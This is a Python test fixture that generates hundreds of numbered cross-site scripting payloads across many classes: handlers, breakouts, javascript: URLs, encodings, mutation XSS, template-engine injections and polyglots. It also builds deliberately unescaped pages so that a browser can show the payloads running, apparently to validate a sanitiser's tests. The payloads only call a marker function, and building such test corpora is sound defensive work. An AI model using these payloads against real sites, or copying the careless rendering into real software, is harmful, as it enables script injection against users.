"""What a page can say so that a careless program runs it: hundreds of texts of every known class.

Each names the place in which a naive page would have to put it. ``naive`` builds that page, so that a browser
can show that the texts are live: a test that sees none of them run on our pages could have seen it. A text
that runs calls ``xss`` with its own number. Some classes are history (UTF-7, CSS expressions, VBScript): no
browser of today runs them, and they stay because a reader's may.
"""

from __future__ import annotations

import base64
import html
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from urllib.parse import quote, unquote

import markdown  # type: ignore[import-untyped]
from jinja2 import Environment


@dataclass(frozen=True, kw_only=True)
class Payload:
    """``kind`` is its class, ``place`` where a naive page has it."""

    number: int
    kind: str
    place: str
    text: str


def naive(payload: Payload) -> str:
    """The page of a program that takes no care at all."""
    return _PLACES[payload.place](payload.text)


def payloads() -> list[Payload]:
    """All of them, numbered from 1; no two are alike, but that a polyglot stands for each of its places."""
    made: dict[tuple[str, str], Callable[[int], str]] = {}
    kinds: dict[tuple[str, str], str] = {}
    for kind, listed in _CLASSES.items():
        for place, template in listed():
            made.setdefault((place, template), _filled(template))
            kinds.setdefault((place, template), kind)
    return [
        Payload(number=number, kind=kinds[key], place=key[0], text=fill(number))
        for number, (key, fill) in enumerate(made.items(), 1)
    ]


def _filled(template: str) -> Callable[[int], str]:
    """``§`` in a template stands for the call and ``№`` for its number; ``¶…¶`` is put into Base64."""

    def fill(number: int) -> str:
        text = template.replace("§", f"xss({number})").replace("№", str(number))
        plain, *rest = text.split("¶")
        coded = [
            base64.b64encode(part.encode()).decode() if n % 2 == 0 else part for n, part in enumerate(rest)
        ]
        return plain + "".join(coded)

    return fill


# ------------------------------------------------------------------ places of a naive page


def _within(before: str, after: str, read: Callable[[str], str] = str) -> Callable[[str], str]:
    return lambda text: f"<!doctype html><body>{before}{read(text)}{after}"


def rendered(text: str, *extensions: str) -> str:
    """Markdown by a renderer that lets all HTML through."""
    return str(markdown.markdown(text, extensions=extensions))


def _engine(text: str) -> str:
    try:
        return Environment().from_string(text).render()  # noqa: S701  # careless on purpose
    except Exception:  # noqa: BLE001  # the language of another engine
        return text


_FULL_WIDTH = {code: code - 0xFEE0 for code in range(0xFF01, 0xFF5F)}

_PLACES: dict[str, Callable[[str], str]] = {
    "text": _within("<p>", "</p>"),
    "double": _within('<input value="', '">'),
    "single": _within("<input value='", "'>"),
    "bare": _within("<input value=", ">"),
    "href": _within('<a href="', '">link</a>'),
    "src": _within('<iframe src="', '"></iframe>'),
    "title": lambda text: f"<!doctype html><title>{text}</title><body>",
    "textarea": _within("<textarea>", "</textarea>"),
    "style": _within("<style>", "</style>"),
    "style attribute": _within('<p style="', '">styled</p>'),
    "comment": _within("<!-- ", " -->"),
    "noscript": _within("<noscript>", "</noscript>"),
    "select": _within("<select><option>", "</select>"),
    "cdata": _within("<svg><![CDATA[", "]]></svg>"),
    "xmp": _within("<xmp>", "</xmp>"),
    "noembed": _within("<noembed>", "</noembed>"),
    "noframes": _within("<noframes>", "</noframes>"),
    "inner frame": _within("<iframe>", "</iframe>"),
    "template": _within("<template>", "</template>"),
    "frame document": _within('<iframe srcdoc="', '"></iframe>'),
    "script": _within("<script>", "</script>"),
    "script double": _within('<script>var said = "', '";</script>'),
    "script single": _within("<script>var said = '", "';</script>"),
    "script template": _within("<script>var said = `", "`;</script>"),
    "script comment": _within("<script>// ", "\n</script>"),
    "script block comment": _within("<script>/* ", " */</script>"),
    "handler": _within("<button onclick=\"say('", "')\">say</button><script>say = () => 0</script>"),
    "unescaped": _within("<p>", "</p>", html.unescape),
    "unescaped twice": _within("<p>", "</p>", lambda text: html.unescape(html.unescape(text))),
    "unquoted": _within("<p>", "</p>", unquote),
    "without zeros": _within("<p>", "</p>", lambda text: text.replace("\0", "")),
    "without the unseen": _within("<p>", "</p>", lambda text: text.replace("\u200b", "").replace("\xad", "")),
    "normalised": _within("<p>", "</p>", lambda text: text.translate(_FULL_WIDTH)),
    "string of script": _within(
        '<p id="p"></p><script>p.innerHTML = "', '"</script>', lambda text: text.replace('"', "'")
    ),
    "written twice": _within("<p id=p></p><p id=q></p><template id=t>", "</template><script>"
        "p.innerHTML = t.innerHTML; q.innerHTML = p.innerHTML</script>"),
    "markdown": _within("", "", rendered),
    "engine": _within("<p>", "</p>", _engine),
}  # fmt: skip

# ------------------------------------------------------------------ classes

Listed = Iterator[tuple[str, str]]
_IMG = "<img src=x onerror=§>"
_CORES = (_IMG, "<svg onload=§>", "<script>§</script>", "<iframe onload=§></iframe>")


def _at(place: str, *templates: str) -> Listed:
    for template in templates:
        yield place, template


def _elements() -> Listed:
    """Elements that run something by themselves."""
    yield from _at(
        "text",
        *_CORES,
        "<image src=x onerror=§>",
        "<body onload=§>",
        "<body onpageshow=§>",
        "<svg><script>§</script></svg>",
        "<svg><script href=data:,§ />",
        "<svg><image href=x onerror=§>",
        "<svg><animate onbegin=§ attributeName=x dur=1s>",
        "<svg><set onbegin=§ attributeName=x>",
        "<svg><animateTransform onbegin=§ attributeName=transform>",
        "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
        "<svg><desc><iframe onload=§></iframe></desc></svg>",
        "<math><mtext><img src=x onerror=§></mtext></math>",
        "<math><annotation-xml encoding=text/html><svg onload=§></annotation-xml></math>",
        "<video src=x onerror=§></video>",
        "<video><source src=x onerror=§></video>",
        "<video src=x onloadstart=§></video>",
        "<audio src=x onerror=§></audio>",
        "<audio><source src=x onerror=§></audio>",
        "<audio src=x onloadstart=§></audio>",
        "<object data=x: onerror=§></object>",
        "<picture><source srcset=x><img onerror=§></picture>",
        "<img srcset=x onerror=§>",
        "<img srcset='x 1x, y 2x' onerror=§>",
        "<input type=image src=x onerror=§>",
        "<link rel=stylesheet href=x: onerror=§>",
        "<link rel=stylesheet href=data:text/css, onload=§>",
        "<style onload=§>a{}</style>",
        "<details open ontoggle=§><summary>x</summary></details>",
        "<marquee onstart=§>x</marquee>",
        "<input autofocus onfocus=§>",
        "<textarea autofocus onfocus=§></textarea>",
        "<select autofocus onfocus=§></select>",
        "<button autofocus onfocus=§>x</button>",
        "<b contenteditable autofocus onfocus=§>x</b>",
        "<a href=# autofocus tabindex=0 onfocus=§>x</a>",
        "<iframe src=javascript:§></iframe>",
        "<iframe srcdoc='<script>§</script>'></iframe>",
        "<iframe srcdoc='<img src=x onerror=§>'></iframe>",
        "<iframe srcdoc='&lt;svg onload=§&gt;'></iframe>",
        "<iframe src='data:text/html,<script>§</script>'></iframe>",
        "<iframe src='data:text/html;base64,¶<script>§</script>¶'></iframe>",
        "<iframe src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22§%22/>'></iframe>",
        "<object data='data:text/html,<script>§</script>'></object>",
        "<embed src='data:text/html,<script>§</script>'>",
        "<embed type=text/html src=javascript:§>",
        "<object data=javascript:§></object>",
        "<script src=data:,§></script>",
        "<script src='data:text/javascript;base64,¶§¶'></script>",
        "<script type=module>§</script>",
        "<script type=module>import 'data:text/javascript,§'</script>",
        "<script async src=data:,§></script>",
        "<template shadowrootmode=open><img src=x onerror=§></template>",
        "<div><template shadowrootmode=open><script>§</script></template></div>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=§>x</b>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationend=§>x</b>",
        "<meta http-equiv=refresh content='0;url=javascript:§'>",
        "<base href=javascript:§//><a href=#>x</a>",
        "<dialog open><img src=x onerror=§></dialog>",
        "<table background=javascript:§><td><img src=x onerror=§></table>",
        "<isindex action=javascript:§ type=image>",
        "<bgsound src=javascript:§>",
        "<layer src=javascript:§></layer>",
        "<xml id=x><x><script>§</script></x></xml>",
    )


_GESTURES = (
    "abort animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput "
    "beforematch beforepaste beforetoggle blur cancel canplay canplaythrough change click close contextmenu copy "
    "cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange emptied ended "
    "focus formdata gotpointercapture input invalid keydown keypress keyup loadeddata loadedmetadata mousedown "
    "mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel paste pause play playing pointercancel "
    "pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup progress "
    "ratechange reset resize scroll scrollend search seeked seeking select selectionchange selectstart slotchange "
    "stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel "
    "transitionend transitionrun transitionstart volumechange waiting wheel"
).split()  # fmt: skip


def _handlers() -> Listed:
    """A handler for everything that a reader or the browser may do to an element."""
    yield from _at("text", *(f"<b on{event}=§>{event}</b>" for event in _GESTURES))


_ENDS = {
    "title": ("</title>", "</title >", "</TITLE/x>"),
    "textarea": ("</textarea>", "</textarea\n>"),
    "style": ("</style>",),
    "comment": ("-->", "--!>"),
    "noscript": ("</noscript>",),
    "cdata": ("]]></svg>",),
    "xmp": ("</xmp>",),
    "noembed": ("</noembed>",),
    "noframes": ("</noframes>",),
    "inner frame": ("</iframe>",),
    "template": ("</template>",),
    "script": ("</script>", "</script x>"),
    "script double": ("</script>",),
    "double": ('">', '"/>'),
    "single": ("'>",),
    "bare": (" >",),
    "href": ('">',),
    "style attribute": ('">',),
}


def _breakouts() -> Listed:
    """Out of where the text stands, into markup."""
    for place, ends in _ENDS.items():
        for end in ends:
            yield from _at(place, *(end + core for core in _CORES))
    yield from _at("select", _CORES[2], "</select>" + _IMG)
    for place, mark in (("double", '"'), ("single", "'"), ("bare", "x")):
        for space in (" ", "/", "\t", "\n", "\f", "\r"):
            yield from _at(
                place,
                f"{mark}{space}onmouseover={mark.strip('x')}§{mark.strip('x')} x={mark.strip('x')}",
                f"{mark}{space}autofocus{space}onfocus=§ x={mark.strip('x')}",
            )
    yield from _at(
        "double", '" style="animation-name:x" onanimationstart="§', '" type="image" src="x" onerror="§'
    )


_DELIMITERS = (
    "<img\tsrc=x\tonerror=§>",
    "<img\nsrc=x\nonerror=§>",
    "<img\fsrc=x\fonerror=§>",
    "<img\rsrc=x\ronerror=§>",
    "<img/src='x'/onerror=§>",
    "<img///src='x'///onerror=§>",
    "<img src=x onerror =§>",
    "<img src=x onerror= \n §>",
    '<img src=x onerror="§">',
    "<img src=x onerror='§'>",
    '<img src="x"onerror=§>',
    "<img src='x'onerror=§>",
    "<img src=x alt=`` onerror=§>",
    "<IMG SRC=x ONERROR=§>",
    "<iMg sRc=x oNeRrOr=§>",
    "<img src=x onerror=§ ",
    "<img src=x onerror=§//",
    "<svg onload=§//",
    "<svg/onload=§>",
    "<svg\n/onload=§>",
    "<sVg OnLoAd=§>",
    "<<img src=x onerror=§>",
    "<x<img src=x onerror=§>",
    "</p/><img src=x onerror=§>",
    "</ ><img src=x onerror=§>",
    "<?><img src=x onerror=§>",
    "<?xml version='1.0'?><img src=x onerror=§>",
    "<!><img src=x onerror=§>",
    "<!--><img src=x onerror=§>-->",
    "<!---><img src=x onerror=§>-->",
    "<!-- --!><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<!doctype x><img src=x onerror=§>",
    "<img '\"`><img src=x onerror=§>",
    '<img """><script>§</script>">',
    "<script/x>§</script>",
    "<script\t>§</script\t>",
    "<SCRIPT>§</SCRIPT>",
    "<ScRiPt >§</sCrIpT >",
    "<script>§//",
    "<script><!--\n§</script>",
    "<b><p><b><img src=x onerror=§></p>",
    "<xyz onclick=§ tabindex=0>x</xyz>",
    "<x-y onclick=§>x</x-y>",
    "&lt;b>&lt;/b><img src=x onerror=§>",
)


def _delimiters() -> Listed:
    """How loosely a tag may be written, and what is never closed."""
    yield from _at("text", *_DELIMITERS)


_CALLS = (
    "xss`№`",
    "window['xss'](№)",
    "self['x'+'ss'](№)",
    "globalThis['\\x78ss'](№)",
    "(xss)(№)",
    "xss?.(№)",
    "[№].map(xss)",
    "[№].find(xss)",
    "eval('§')",
    "eval(atob('¶§¶'))",
    "Function('§')()",
    "setTimeout('§')",
    "setTimeout(xss,0,№)",
    "location='javascript:§'",
    "\\u0078ss(№)",
    "&#120;ss(№)",
    "&#x78;ss&#40;№&#41;",
    "&#0000120ss(№)",
    "xss&lpar;№&rpar;",
    "xss.call(null,№)",
    "Reflect.apply(xss,null,[№])",
    "with(window){§}",
    "import('data:text/javascript,§')",
    "document.write('<script>§<\\/script>');document.close()",
    "document.body.innerHTML='<svg/onload=§>'",
    "window.onerror=xss;throw/№/",
    "[].constructor.constructor('§')()",
    "/x/[Symbol.replace]('x',()=>§)",
    "void §",
    "+§",
    "typeof §",
    "a=§",
    "`${§}`",
    "Promise.resolve(№).then(xss)",
    "queueMicrotask(()=>§)",
)


def _calls() -> Listed:
    """The call in other spellings, to get past whoever looks for it."""
    yield from _at("text", *(f'<img src=x onerror="{call}">' for call in _CALLS))


_ADDRESSES = (
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    "java\nscript:§",
    "java\rscript:§",
    "\tjavascript:§",
    "  javascript:§",
    "\x01javascript:§",
    "\x1fjavascript:§",
    "javascript\t:§",
    "java&Tab;script:§",
    "java&NewLine;script:§",
    "java&#9;script:§",
    "javascript&colon;§",
    "javascript&#58;§",
    "javascript&#x3a;§",
    "&#106;avascript:§",
    "&#x6a;avascript:§",
    "&#0000106avascript:§",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:§",
    "javascript:%78ss(№)",
    "javascript:\\u0078ss(№)",
    "javascript://x%0a§",
    "javascript://quay.example/%0D%0A§//?a=b",
    "javascript:/*https://quay.example/*/§",
    "javascript:/https:\\/\\/quay.example/;§",
    "javascript:void(§)",
    "javascript:'<script>§</script>'",
    "javascript:xss`№`",
)
_OLD_ADDRESSES = (
    "vbscript:MsgBox(№)",
    "livescript:§",
    "mocha:§",
    "feed:javascript:§",
    "view-source:javascript:§",
    "jar:javascript:§!/",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,¶<script>§</script>¶",
    "data:text/html;charset=utf-7,+ADw-script+AD4-§+ADw-/script+AD4-",
    "https://quay.example/javascript:§",
    "//quay.example/%22onmouseover=§",
    'https://quay.example/?q="onmouseover=§ x="',
    "https://quay.example/#<img src=x onerror=§>",
    "https://quay.example/<script>§</script>",
    "file:///etc/passwd#§",
)


def _addresses() -> Listed:
    """Addresses that run when they are followed, and elements that carry them."""
    yield from _at("href", *_ADDRESSES, *_OLD_ADDRESSES)
    for address in ("javascript:§", "java&Tab;script:§", "&#106;avascript:§", "JAVASCRIPT:§"):
        yield from _at(
            "text",
            f'<a href="{address}">x</a>',
            f'<area href="{address}">',
            f'<svg><a xlink:href="{address}"><text y=9>x</text></a></svg>',
            f'<svg><a href="{address}"><text y=9>x</text></a></svg>',
            f'<form action="{address}"><button>x</button></form>',
            f'<form><button formaction="{address}">x</button></form>',
            f'<form><input type=submit formaction="{address}"></form>',
            f'<iframe src="{address}"></iframe>',
            f'<math href="{address}">x</math>',
        )
    yield from _at(
        "src",
        "javascript:§",
        "java\nscript:§",
        "data:text/html,<script>§</script>",
        "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
        "data:text/xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>§</x:script>",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>§</script></svg>",
        "data:text/html;charset=utf-16le;base64,¶<script>§</script>¶",
    )


def _scripts() -> Listed:
    """Out of a string or a comment of a script, or of a handler."""
    yield from _at("script double", '";§//', '"-§-"', '"+§+"', '\\";§//', '"}]);§//', '"\n§//', '"||§||"')
    yield from _at("script single", "';§//", "'-§-'", "'+§+'", "\\';§//", "');§//", "',§,'")
    yield from _at("script template", "${§}", "`;§//", "`-§-`", "${[№].map(xss)}")
    yield from _at("script comment", "\n§", "\r§", "\u2028§", "\u2029§", "\u2028-->\u2029§")
    yield from _at("script block comment", "*/§/*", "*/§//", "*//**/§/*")
    yield from _at("script", "§", "<!--\n§", "-->\n§", "\ufeff§", "\u2028§", "0||§")
    yield from _at(
        "handler",
        "');§;('",
        "&#39;);§//",
        "&apos;);§//",
        "&#x27;-§-&#x27;",
        "\\u0027');§//",
        "'+§+'",
        "&#39&#41;;§//",
    )


def _engines() -> Listed:
    """The languages of template engines."""
    yield from _at(
        "engine",
        "{{'<img src=x onerror=§>'}}",
        '{{"<svg onload=§>"}}',
        "{% set s = '<script>' %}{{s}}§</script>",
        "{{ '%c'|format(60) }}img src=x onerror=§>",
        "{{ ['<script>','§','</script>']|join }}",
        "{{ ('<sv','g onload=§>')|join }}",
        "{% if 7*7 == 49 %}<svg onload=§>{% endif %}",
        "{% for c in 'x' %}<svg onload=§>{% endfor %}",
        "{{ self.__init__.__globals__ and '<svg onload=§>' }}",
        "{{ cycler.__init__.__globals__.os and '<svg onload=§>' }}",
        "{# #}<svg onload=§>{# #}",
        "{{constructor.constructor('§')()}}",
        "{{$on.constructor('§')()}}",
        "{{=§}}",
        "${§}",
        "#{§}",
        "*{§}",
        "@(§)",
        "@{§}",
        "[[${§}]]",
        "<%= § %>",
        "<#assign x='§'>${x}",
        "{php}§{/php}",
        "{$smarty.version}§",
        "#set($x=§)$x",
        "<c:out value='${§}'/>",
        "<?php echo '§' ?>",
        "<b ng-app ng-csp ng-click=$event.view.xss(№)>x</b>",
        "<b v-html=\"'<svg onload=§>'\">x</b>",
        "<b x-data x-init=§>x</b>",
        "<b hx-on:load=§>x</b>",
    )


def _mutations() -> Listed:
    """Harmless as it is read, live once it is written out and read again."""
    yield from _at(
        "written twice",
        "<svg></p><style><a title='</style><img src=x onerror=§>'>",
        "<svg><style><img title='</style><img src=x onerror=§>'></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=§&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
        "<math><style><img title='</style><img src=x onerror=§>'></style></math>",
        "<noembed><img title='</noembed><img src=x onerror=§>'></noembed>",
        "<xmp><img title='</xmp><img src=x onerror=§>'></xmp>",
        "<iframe><img title='</iframe><img src=x onerror=§>'></iframe>",
        "<select><style></select><img src=x onerror=§></style>",
        "<p title='--><img src=x onerror=§>'><!--</p>-->",
        _IMG,
    )
    yield from _at(
        "text",
        "<noscript><p title='</noscript><img src=x onerror=§>'>",
        "<xmp><p title='</xmp><img src=x onerror=§>'>",
        "<noembed><p title='</noembed><img src=x onerror=§>'>",
        "<noframes><p title='</noframes><img src=x onerror=§>'>",
        "<textarea><p title='</textarea><img src=x onerror=§>'>",
        "<style><p title='</style><img src=x onerror=§>'>",
        "<iframe><p title='</iframe><img src=x onerror=§>'>",
    )


def _encodings() -> Listed:
    """Live once somebody decodes, folds or cleans it."""
    for core in (_IMG, "<svg onload=§>", "<script>§</script>"):
        yield from _at(
            "unescaped",
            html.escape(core),
            core.replace("<", "&#60;"),
            core.replace("<", "&#x3c;").replace(">", "&GT;"),
        )
        yield from _at("unescaped twice", html.escape(html.escape(core)), core.replace("<", "&amp;#60;"))
        yield from _at("unquoted", quote(core).replace("%C2%A7", "§"), core.replace("<", "%3c"))
        yield from _at("normalised", "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in core))
        yield from _at("without zeros", core[:3] + "\0" + core[3:])
        yield from _at("without the unseen", core[:3] + "\u200b" + core[3:], core[:2] + "\xad" + core[2:])
        yield from _at(
            "text",
            "\u202e" + core,
            "\u2066" + core + "\u2069",
            "\u2028" + core,
            "\ufeff" + core,
            "\x1b[31m" + core,
        )
    yield from _at(
        "string of script", "\\u003cimg src=x onerror=§>", "\\x3csvg onload=§>", "\\74svg onload=§>"
    )
    yield from _at(
        "text",
        "+ADw-script+AD4-§+ADw-/script+AD4-",
        "\xbcscript\xbe§\xbc/script\xbe",
        "\xc0\xbcscript\xc0\xbe§",
        "<scr\0ipt>§</scr\0ipt>",
        "<img src=x on\0error=§>",
        "<\u0338script>§</script>",
        "\u226eimg src=x onerror=§\u226f",
        "\u2039script\u203a§\u2039/script\u203a",
    )


def _marks() -> Listed:
    """Markdown that is markup, a link or a picture."""
    yield from _at(
        "markdown",
        "[x](javascript:§)",
        "[x](<javascript:§>)",
        "[x](JaVaScRiPt:§)",
        "[x](java&#115;cript:§)",
        "[x](javascript&colon;§)",
        "[x][1]\n\n[1]: javascript:§",
        "[![x](y)](javascript:§)",
        "**[x](javascript:§)**",
        "> [x](javascript:§)",
        "- [x](javascript:§)",
        "# [x](javascript:§)",
        "[x](javascript:§ 'title')",
        "<javascript:§>",
        '![x](x"onerror="§)',
        "![x](javascript:§)",
        "![<img src=x onerror=§>](x)",
        "**<img src=x onerror=§>**",
        "> <img src=x onerror=§>",
        "* <svg onload=§>",
        "1. <svg onload=§>",
        "# <svg onload=§>",
        "| <svg onload=§> |",
        "x\n===\n<svg onload=§>",
        "<div markdown=1>\n<svg onload=§>\n</div>",
        "~~<svg onload=§>~~",
        "`x` <svg onload=§>",
        "\\<svg onload=§>\n\n<svg onload=§>",
        "<details open ontoggle=§>\n\n**x**\n\n</details>",
        "[x](data:text/html,<script>§</script>)",
        "[x](vbscript:§)",
    )


def _styles() -> Listed:
    """In a style sheet or a style: history, but for the ways out of it."""
    yield from _at(
        "style attribute",
        "width:expression(§)",
        "background:url(javascript:§)",
        "background:url('javascript:§')",
        "behavior:url(#default#time2);§",
        "-moz-binding:url(data:text/xml,§)",
        "list-style:url(javascript:§)",
        "x:\\65xpression(§)",
        'animation:x" onanimationstart="§',
        'color:red;" onclick="§',
    )
    yield from _at(
        "style", "@import 'javascript:§';", "a{background:url(javascript:§)}", "</style><svg onload=§><style>"
    )


_POLYGLOTS = (
    "'\"`><svg onload=§>",
    "--></title></textarea></style></script></xmp></noscript><svg onload=§>",
    "javascript:/*'\"`--></title></textarea></style></script><svg/onload=§>*/§//",
    "'\">]]>--></template></iframe></noembed><img src=x onerror=§>",
    "*/-->'\";§//</script><svg onload=§>",
    "${{'<svg onload=§>'}}<%= x %>#{x}</title><svg onload=§>",
)


def _polyglots() -> Listed:
    """One text for many places."""
    for place in ("text", "double", "single", "title", "textarea", "comment", "style", "href"):
        yield from _at(place, *_POLYGLOTS)


_CLASSES: dict[str, Callable[[], Listed]] = {
    "element": _elements,
    "handler": _handlers,
    "breakout": _breakouts,
    "delimiter": _delimiters,
    "call": _calls,
    "address": _addresses,
    "script": _scripts,
    "engine": _engines,
    "mutation": _mutations,
    "encoding": _encodings,
    "markdown": _marks,
    "style": _styles,
    "polyglot": _polyglots,
}


def chunks(of: Sequence[Payload], size: int) -> Iterator[Sequence[Payload]]:
    for start in range(0, len(of), size):
        yield of[start : start + size]
